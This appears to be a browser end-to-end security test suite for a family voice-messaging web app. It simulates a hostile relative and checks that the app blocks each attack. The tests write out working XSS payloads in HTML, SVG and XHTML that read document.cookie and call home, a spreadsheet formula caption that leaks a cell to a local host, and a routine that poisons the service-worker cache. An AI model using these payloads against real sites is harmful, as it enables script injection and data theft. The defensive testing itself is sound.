/**
 * A malicious family member against the web app (issue #22), in real headless Chromium against a
 * real `burrow serve`. Eve is a relative of Mum's family, with her own client (the client library
 * in Node, real keys): she seals whatever a member may seal, and tries to turn that into script on
 * the Burrow origin, or into a moment of script that lasts, or into a family that passes for Mum's.
 * Mum uses the web app only; every step she takes is a click.
 *
 * - "Audio" typed text/html, image/svg+xml, application/xhtml+xml (and an HTML page typed as
 *   audio/webm): listening to it before approving, approving, playing, exporting it and opening every address the app made for it in
 *   a tab of its own runs nothing; the app says the message is not in a format it plays.
 * - A caption that is a spreadsheet formula reaches the export's index.csv as text.
 * - Script that rewrites the service worker's Cache Storage (one moment of XSS) does not load in
 *   the next tab: the worker checks each file's SHA-256 from the build.
 * - A look-alike family ("The Smiths", as Mum's) with a right-to-left override in a child's name and
 *   a 15,000-character name: the invite page says who invites and to which family (sealed with the
 *   link's secret) signed by the inviter, says that names prove nothing, and to join promptly;
 *   the home screen points out the two families of the same name and their guardians; the names
 *   are refused when opened; nothing widens the page or reverses the app's labels.
 * - Signing out deletes the app's database and the virtual toy's on this origin, and the toy's
 *   records were sealed before that.
 * - Trusted Types: an injected string assigned to innerHTML throws instead of running.
 * - Another child's conversation (issue #16): Eve, allowed Mia only, holds no key of Ben's, so a
 *   colluding server that hands her Ben's messages and profile gives her nothing she can open.
 */
import { readFile } from 'node:fs/promises';
import { strFromU8, unzipSync } from 'fflate';
import type { BrowserContext, Page } from 'playwright-core';
import { beforeAll, describe, expect, it } from 'vitest';
import { addChild, updateChild } from '../../src/client/children.js';
import { admitJoiners, createFamily, loadFamily } from '../../src/client/families.js';
import { acceptInvite, createInvite } from '../../src/client/invites.js';
import { downloadEnvelope, sendMessage, uploadEnvelope } from '../../src/client/messages.js';
import { fromBase64Url, toBase64Url } from '../../src/crypto/bytes.js';
import { openAndVerifyMessage, sealMessage } from '../../src/crypto/envelope.js';
import { openProfile, profileScope, sealProfile } from '../../src/crypto/profile.js';
import { FamilyView } from '../../src/protocol/families.js';
import { headSealing } from '../adversarial/forged-keys.js';
import { registerMember, registerSignInMember, wavWith, type TestMember } from '../support/members.js';
import { openTab, pairToy, showToyCode } from './support/app-steps.js';
import { useBrowserApp } from '../support/browser.js';
import { hasChromium } from '../support/chromium.js';
import { fakeVoice } from './support/fake-mic.js';

const STEP = 30_000;

/**
 * Watches, in every page, what script would show if it ran (a `pwned` key in localStorage, a
 * request to /pwned), every Blob the page turns into an address (with its type), CSP violations
 * and page errors.
 */
const PROBE = `(() => {
  const blobs = [];
  const violations = [];
  Object.defineProperty(window, '__blobs', { value: blobs });
  Object.defineProperty(window, '__violations', { value: violations });
  document.addEventListener('securitypolicyviolation', (event) => violations.push(event.violatedDirective + ' ' + event.blockedURI));
  const createObjectURL = URL.createObjectURL;
  URL.createObjectURL = function (object) {
    const url = createObjectURL.call(URL, object);
    if (object instanceof Blob) blobs.push({ url, type: object.type });
    return url;
  };
})();`;

/** What each hostile "audio" would do if it ran as a page: mark localStorage and call home. */
function payload(tag: string): string {
  return `localStorage.setItem('pwned-${tag}', document.cookie + '|' + location.href); fetch('/pwned/${tag}');`;
}
const HOSTILE: Array<{ tag: string; audioType: string; body: string }> = [
  { tag: 'html', audioType: 'text/html', body: `<!doctype html><title>a voice message</title><script>${payload('html')}</script><img src="x" onerror="${payload('html-img')}">` },
  { tag: 'svg', audioType: 'image/svg+xml', body: `<svg xmlns="http://www.w3.org/2000/svg" onload="${payload('svg')}"><script>${payload('svg-script')}</script></svg>` },
  { tag: 'xhtml', audioType: 'application/xhtml+xml', body: `<html xmlns="http://www.w3.org/1999/xhtml"><body><script>${payload('xhtml')}</script></body></html>` },
  // Allowed type, hostile bytes: the Blob is audio/webm, which the browser never renders as a page.
  { tag: 'disguised', audioType: 'audio/ogg', body: `<!doctype html><script>${payload('disguised')}</script>` },
];
const FORMULA = '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"Click for the photos")';

const app = useBrowserApp({ name: 'web-malicious', browsers: [{ voice: fakeVoice({ pitchHz: 220, syllablesPerSecond: 4, peak: 0.4 }) }] });
let mum: TestMember;
let eve: TestMember;
let familyId: string;
let mia: string;
const hostileIds = new Map<string, string>();
let formulaId: string;
const calledHome: string[] = [];

/**
 * What a hostile member does: seal with her own keys and upload, past the client library's format
 * check (which refuses to seal anything but Ogg/Opus or 16-bit PCM WAV), as any program could.
 */
async function sealPastTheClient(member: TestMember, options: { audio: Uint8Array; audioType: string }): Promise<string> {
  const family = await loadFamily(member, familyId);
  const sealed = await sealMessage({
    familyId, epoch: family.roster.epoch, rosterHead: family.roster.headHash, ...headSealing(family, member.me.accountId, [mia]), sender: member.me,
    recipients: [mia], audio: options.audio, audioType: options.audioType, durationMs: 1000, createdAt: Date.now(),
  });
  const messageId = toBase64Url(sealed.header.messageId);
  await uploadEnvelope(member, { familyId, envelope: sealed.bytes, messageId });
  return messageId;
}

beforeAll(async () => {
  mum = await registerSignInMember(app.server.url, 'mum');
  eve = await registerMember(app.server.url, 'eve');
  familyId = (await createFamily(mum, { name: 'The Smiths' })).familyId;
  mia = (await addChild(mum, { familyId, name: 'Mia', emoji: '🦊' })).childId;
  // Eve joins as a relative whose messages a guardian approves, as any relative may.
  const { link } = await createInvite(mum, { familyId, terms: { role: 'relative', children: [mia], needsApproval: true } });
  await acceptInvite(eve, link);
  await admitJoiners(mum, { familyId });
  await loadFamily(eve, familyId);
  for (const hostile of HOSTILE) {
    hostileIds.set(hostile.tag, await sealPastTheClient(eve, { audio: new TextEncoder().encode(hostile.body), audioType: hostile.audioType }));
  }
  formulaId = (await sendMessage(eve, { familyId, to: mia, audio: wavWith(new Uint8Array(8)), audioType: 'audio/wav', durationMs: 500, caption: FORMULA })).messageId;
}, 180_000);

async function mumsPhone(): Promise<{ context: BrowserContext; page: Page }> {
  const context = await app.newContext();
  await context.addInitScript({ content: PROBE });
  context.on('request', (request) => {
    if (new URL(request.url()).pathname.startsWith('/pwned')) calledHome.push(request.url());
  });
  const page = await context.newPage();
  await page.goto('/');
  await page.getByRole('tab', { name: 'Sign in' }).click();
  await page.getByLabel('Email').fill(mum.email);
  await page.getByLabel('Password', { exact: true }).fill(mum.password);
  await page.getByRole('button', { name: 'Sign in', exact: true }).click();
  await page.locator(`a[href="/family/${familyId}"]`).waitFor({ timeout: STEP });
  return { context, page };
}

/** Every `pwned-*` key any hostile script left in this origin's localStorage. */
async function pwned(page: Page): Promise<string[]> {
  return page.evaluate(() => Object.keys(localStorage).filter((key) => key.startsWith('pwned')));
}

async function blobsMade(page: Page): Promise<Array<{ url: string; type: string }>> {
  return page.evaluate(() => (window as unknown as { __blobs: Array<{ url: string; type: string }> }).__blobs.slice());
}

async function violations(page: Page): Promise<string[]> {
  return page.evaluate(() => (window as unknown as { __violations: string[] }).__violations.slice());
}

describe.skipIf(!hasChromium())('a malicious family member against the web app', { timeout: 240_000 }, () => {
  it('cannot make the app build a page from "audio": approving, playing, saving and opening its address run nothing', async () => {
    const { context, page } = await mumsPhone();
    await page.goto(`/family/${familyId}/messages`);
    const queue = page.locator('section', { has: page.getByRole('heading', { name: 'Waiting for your approval' }) });
    await queue.getByRole('button', { name: 'Approve' }).first().waitFor({ timeout: STEP });

    // Listen to, then approve, every waiting message (the four hostile ones and the one with the formula caption).
    let refusedInWords = 0;
    for (let left = HOSTILE.length + 1; left > 0; left--) {
      const item = queue.locator('li[data-message]').first();
      await item.getByRole('button', { name: 'Play the message' }).click({ timeout: STEP });
      const refusal = item.getByText('not in an audio format Burrow plays');
      await expect.poll(async () => (await item.locator('audio').count()) + (await refusal.count()), { timeout: STEP }).toBeGreaterThan(0);
      if ((await refusal.count()) > 0) refusedInWords += 1;
      await item.getByRole('button', { name: 'Approve' }).click({ timeout: STEP });
      await expect.poll(() => queue.getByRole('button', { name: 'Approve' }).count(), { timeout: STEP }).toBe(left - 1);
    }
    expect(refusedInWords).toBeGreaterThan(0);

    // The conversation: each hostile message, when opened, is refused in plain words, the
    // disguised one too (an allowed type, but its bytes are no Ogg/Opus).
    await page.goto(`/family/${familyId}/talk/${mia}`);
    for (const hostile of HOSTILE) {
      const item = page.locator(`li[data-message="${hostileIds.get(hostile.tag)!}"]`);
      await item.getByRole('button', { name: 'Play the message' }).click({ timeout: STEP });
      await item.getByText('This message is not in an audio format Burrow plays').waitFor({ timeout: STEP });
      expect(await item.locator('audio').count()).toBe(0);
    }
    const formula = page.locator(`li[data-message="${formulaId}"]`);
    await formula.getByRole('button', { name: 'Play the message' }).click();
    await formula.getByTestId('message-audio').waitFor({ timeout: STEP });

    // Every address the app made from a message has an allow-listed audio type; each one, and
    // every <audio> element's address, opened in a tab of its own ("open in new tab") runs nothing.
    const audioBlobs = await blobsMade(page);
    expect(audioBlobs.map((b) => b.type).sort()).toEqual(['audio/wav']);
    const sources = await page.locator('audio').evaluateAll((elements) => elements.map((el) => (el as HTMLAudioElement).src));
    for (const url of new Set([...audioBlobs.map((b) => b.url), ...sources])) {
      const tab = await context.newPage();
      await tab.goto(url).catch(() => undefined);
      await tab.waitForTimeout(500);
      expect(await tab.evaluate(() => document.contentType).catch(() => 'none')).not.toMatch(/html|svg|xml/);
      await tab.close();
    }
    expect(await pwned(page)).toEqual([]);

    // Saving: the export zips what plays and lists what was refused.
    await openTab(page, 'Settings');
    const [download] = await Promise.all([page.waitForEvent('download', { timeout: STEP }), page.getByRole('button', { name: 'Download everything' }).click()]);
    const zip = unzipSync(new Uint8Array(await readFile((await download.path())!)));
    const index = JSON.parse(strFromU8(zip['index.json']!)) as { messages: Array<{ messageId: string; file: string | null; status: string; caption: string | null }> };
    for (const name of Object.keys(zip)) expect(name).toMatch(/^(index\.(json|csv)|audio\/[\w-]+\.(ogg|wav))$/);
    for (const hostile of HOSTILE.filter((h) => h.tag !== 'disguised')) {
      const row = index.messages.find((m) => m.messageId === hostileIds.get(hostile.tag))!;
      expect(row).toMatchObject({ file: null, status: 'refused: not an audio format Burrow plays' });
    }
    // The disguised one is saved as the .ogg its type names (the zip's bytes open nowhere as a page).
    expect(index.messages.find((m) => m.messageId === hostileIds.get('disguised'))!.file).toMatch(/\.ogg$/);
    // The caption reaches index.csv as text: a spreadsheet shows it, it does not evaluate it.
    const csv = strFromU8(zip['index.csv']!);
    expect(csv).toContain(`"'${FORMULA.replace(/"/g, '""')}"`);
    for (const line of csv.split('\r\n')) for (const cell of line.split(',')) expect(cell).not.toMatch(/^"?[=+@\t\r-]/);

    // The download itself is application/octet-stream, never a type a browser renders.
    const made = await blobsMade(page);
    expect(made.at(-1)!.type).toBe('application/octet-stream');
    expect(await pwned(page)).toEqual([]);
    expect(calledHome).toEqual([]);
    expect(await violations(page)).toEqual([]);
  });

  it('cannot make one moment of script last: a rewritten service-worker cache is refused in the next tab', async () => {
    const { context, page } = await mumsPhone();
    // The worker installs and takes control (a reload puts the page under it).
    await page.evaluate(async () => {
      await navigator.serviceWorker.ready;
    });
    await page.reload();
    await page.locator(`a[href="/family/${familyId}"]`).waitFor({ timeout: STEP });
    expect(await page.evaluate(() => navigator.serviceWorker.controller !== null)).toBe(true);
    const entry = await page.evaluate(() => (document.querySelector('script[type="module"][src]') as HTMLScriptElement).getAttribute('src')!);

    // The moment of script: every cached script of the shell becomes the attacker's.
    const poisoned = await page.evaluate(async (code) => {
      let count = 0;
      for (const name of await caches.keys()) {
        const cache = await caches.open(name);
        for (const request of await cache.keys()) {
          if (!new URL(request.url).pathname.endsWith('.js')) continue;
          await cache.put(request, new Response(code, { headers: { 'content-type': 'text/javascript' } }));
          count += 1;
        }
      }
      return count;
    }, payload('cache'));
    expect(poisoned).toBeGreaterThan(0);

    // A new tab: the app loads as built, signed in, and the attacker's bundle never runs.
    const next = await context.newPage();
    await next.goto('/');
    await next.locator(`a[href="/family/${familyId}"]`).waitFor({ timeout: STEP });
    expect(await pwned(next)).toEqual([]);
    expect(calledHome).toEqual([]);
    // The worker threw the rewritten entry away and cached the build's bytes again.
    const cached = await next.evaluate(async (path) => {
      for (const name of await caches.keys()) {
        const response = await (await caches.open(name)).match(path);
        if (response !== undefined) return response.text();
      }
      return undefined;
    }, entry);
    expect(cached).toBeDefined();
    expect(cached).not.toContain('pwned');
  });

  it('cannot pass a family off as Mum\'s: the invite says who invites, the home screen tells the families apart, hostile names are refused', async () => {
    // Eve's own family, with Mum's family's name; a child whose name carries a right-to-left
    // override, and one with a 15,000-character name (sealed by hand: Eve's client need not check).
    const evesFamily = (await createFamily(eve, { name: 'The Smiths' })).familyId;
    const rlo = (await addChild(eve, { familyId: evesFamily, name: '\u202Eeman s\'ymmuM', emoji: '🐻' })).childId;
    const long = (await addChild(eve, { familyId: evesFamily, name: 'Leo', emoji: '🐯' })).childId;
    const opened = await loadFamily(eve, evesFamily);
    const sealed = await sealProfile({ familyId: evesFamily, epoch: opened.roster.epoch, key: opened.headKeyOf(profileScope(opened.roster.head, 'child', long))!, kind: 'child', objectId: long, data: { name: 'W'.repeat(15_000), emoji: '🐯🐯🐯' }, signer: eve.me.identity });
    await eve.api.call('PUT', `/v1/families/${evesFamily}/children/${long}`, undefined, { sealedProfile: toBase64Url(sealed) });
    // She signs the invite as "Mum": a name is whatever the inviter says; a safety code is not.
    const { link } = await createInvite(eve, { familyId: evesFamily, terms: { role: 'guardian', children: [], needsApproval: false }, from: 'Mum' });

    // Mum opens Eve's link: the page says who invites (as signed), that names prove nothing, and to join promptly.
    const { page } = await mumsPhone();
    await page.goto(link);
    await page.getByText('You are invited to join a family as a guardian').waitFor({ timeout: STEP });
    expect(await page.getByTestId('invite-description').innerText()).toBe('Mum invites you to the family The Smiths.');
    await page.getByText('Anyone can call a family anything').waitFor();
    expect(await page.getByTestId('invite-history-note').innerText()).toContain("stays in this browser's history");
    await page.getByRole('button', { name: 'Join the family' }).click();
    await page.getByText('The guardian who invited you must now let you in').waitFor({ timeout: STEP });
    await admitJoiners(eve, { familyId: evesFamily });
    await page.waitForURL(new RegExp(`/family/${evesFamily}`), { timeout: STEP });

    // Home: two "The Smiths", pointed out, each with its guardians from the verified roster.
    await page.goto('/');
    const mine = page.locator(`li[data-family="${familyId}"]`);
    const eves = page.locator(`li[data-family="${evesFamily}"]`);
    await expect.poll(async () => (await eves.getByTestId('family-guardians').count()) + (await mine.getByTestId('family-guardians').count()), { timeout: STEP }).toBe(2);
    await page.getByText('Two of your families have the same name').waitFor();
    expect(await mine.getByTestId('family-guardians').innerText()).toContain('guardians: you');
    expect(await mine.getByTestId('family-guardians').innerText()).not.toContain('not verified');
    expect(await eves.getByTestId('family-guardians').innerText()).toContain('(not verified)');

    // Eve's family's children: the override and the overlong name are refused when opened, the
    // three-emoji avatar too; the page keeps its width and the app's labels read as written.
    await page.goto(`/family/${evesFamily}/people`);
    await page.getByRole('heading', { name: 'Children' }).waitFor({ timeout: STEP });
    const children = page.locator('.card', { has: page.getByRole('heading', { name: 'Children' }) }).locator('li');
    await expect.poll(() => children.count(), { timeout: STEP }).toBe(2);
    const text = await children.allInnerTexts();
    expect(text.join('\n')).not.toContain('\u202E');
    expect(text.join('\n')).not.toContain('WWWW');
    expect(text.join('\n')).not.toContain('🐯🐯');
    expect(text.filter((t) => t.includes('A child (the name does not open)'))).toHaveLength(2);
    const width = await page.evaluate(() => ({ scroll: document.documentElement.scrollWidth, client: document.documentElement.clientWidth }));
    expect(width.scroll).toBeLessThanOrEqual(width.client);
    expect(rlo).toBeDefined();
    expect(await violations(page)).toEqual([]);
  });

  it('leaves nothing readable after sign-out: the app database and the virtual toy database are deleted', async () => {
    const { context, page } = await mumsPhone();
    const toy = await context.newPage();
    const code = await showToyCode(toy);
    // The toy shares Mum's storage, so it is a second tab; her tab comes back to the front, where
    // Chromium draws it (a background tab gets no animation frames: each click on it waited ~1 s).
    await page.bringToFront();
    await page.goto(`/family/${familyId}/people`);
    await page.getByRole('navigation', { name: 'Family' }).waitFor({ timeout: STEP });
    await pairToy(page, toy, { code, childLabel: '🦊 Mia' });

    // The toy's records are sealed: no family key, token or roster lies there in the clear.
    const records = await toy.evaluate(async () => {
      const db = await new Promise<IDBDatabase>((resolve, reject) => {
        const request = indexedDB.open('burrow-virtual-toy');
        request.onsuccess = () => resolve(request.result);
        request.onerror = () => reject(request.error);
      });
      const all = await new Promise<{ keys: IDBValidKey[]; values: unknown[] }>((resolve) => {
        const store = db.transaction('state').objectStore('state');
        const keys = store.getAllKeys();
        const values = store.getAll();
        values.onsuccess = () => resolve({ keys: keys.result, values: values.result });
      });
      db.close();
      return all.keys.map((key, i) => {
        const value = all.values[i] as Record<string, unknown>;
        return { key: String(key), kind: value instanceof CryptoKey ? `key:${String(value.extractable)}` : Object.keys(value).sort().join(',') };
      });
    });
    expect(records.map((r) => r.key)).toEqual(expect.arrayContaining(['device-key', 'record:device', 'record:trust']));
    for (const record of records) expect(record.kind, record.key).toBe(record.key === 'device-key' ? 'key:false' : 'ciphertext,iv');

    // Sign out in the app: both databases go, and the toy page lets go of its family.
    await page.goto('/account');
    // The page's own Sign out (the sessions list above it has one per session).
    await page.getByRole('button', { name: 'Sign out', exact: true }).last().click();
    await page.getByRole('tab', { name: 'Sign in' }).waitFor({ timeout: STEP });
    await toy.getByRole('button', { name: 'Switch the toy on' }).waitFor({ timeout: STEP });
    // Whatever database of this origin exists now (a page may open a fresh one) holds nothing.
    const left = await page.evaluate(async () => {
      const out: string[] = [];
      for (const info of await indexedDB.databases()) {
        const db = await new Promise<IDBDatabase>((resolve, reject) => {
          const request = indexedDB.open(info.name!);
          request.onsuccess = () => resolve(request.result);
          request.onerror = () => reject(request.error);
        });
        for (const name of Array.from(db.objectStoreNames)) {
          const keys = await new Promise<IDBValidKey[]>((resolve) => {
            const request = db.transaction(name).objectStore(name).getAllKeys();
            request.onsuccess = () => resolve(request.result);
          });
          for (const key of keys) out.push(`${info.name!}/${name}/${String(key)}`);
        }
        db.close();
      }
      return out;
    });
    expect(left).toEqual([]);
  });

  it("cannot read another child's conversation: a message to Ben and Ben's profile, handed over by a colluding server, do not open with her keys", async () => {
    // Gran is allowed Ben, which gives Ben a conversation key of his own; Mum then names him under it.
    const ben = (await addChild(mum, { familyId, name: 'Ben', emoji: '🐻' })).childId;
    const gran = await registerMember(app.server.url, 'gran');
    const { link } = await createInvite(mum, { familyId, terms: { role: 'relative', children: [ben], needsApproval: false } });
    await acceptInvite(gran, link);
    await admitJoiners(mum, { familyId });
    await updateChild(mum, { familyId, childId: ben, name: 'Ben', emoji: '🐻' });
    const toBen = await sendMessage(mum, { familyId, to: ben, audio: wavWith(new Uint8Array(8)), audioType: 'audio/wav', durationMs: 500 });
    // What a colluding server hands Eve: the envelope and the sealed profile, as it stores them for Mum.
    const envelope = await downloadEnvelope(mum, { familyId, messageId: toBen.messageId });
    const sealedProfile = fromBase64Url((await mum.api.call('GET', `/v1/families/${familyId}`, FamilyView)).children.find((c) => c.childId === ben)!.sealedProfile);

    const evesView = await loadFamily(eve, familyId);
    expect(evesView.headKeyOf(ben)).toBeUndefined();
    expect(await openAndVerifyMessage(envelope, { roster: evesView.roster, keyFor: evesView.keyFor })).toEqual({ ok: false, code: 'envelope/no-key' });
    const profileAt = (view: typeof evesView) => openProfile({ sealed: sealedProfile, familyId, kind: 'child', objectId: ben, head: view.roster, keyFor: view.keyFor });
    expect((await profileAt(evesView)).ok).toBe(false);
    // Not vacuous: gran, allowed Ben, opens both.
    const gransView = await loadFamily(gran, familyId);
    expect((await openAndVerifyMessage(envelope, { roster: gransView.roster, keyFor: gransView.keyFor })).ok).toBe(true);
    expect(await profileAt(gransView)).toMatchObject({ ok: true, value: { data: { name: 'Ben' } } });
  });

  it('requires Trusted Types: an injected string given to innerHTML throws instead of running', async () => {
    const { page } = await mumsPhone();
    const result = await page.evaluate((code) => {
      try {
        document.body.insertAdjacentHTML('beforeend', `<img src="x" onerror="${code}">`);
        return 'assigned';
      } catch (error) {
        return (error as Error).name;
      }
    }, payload('tt'));
    expect(result).toBe('TypeError');
    await page.waitForTimeout(300);
    expect(await pwned(page)).toEqual([]);
    expect((await violations(page)).some((v) => v.startsWith('require-trusted-types-for'))).toBe(true);
  });
});
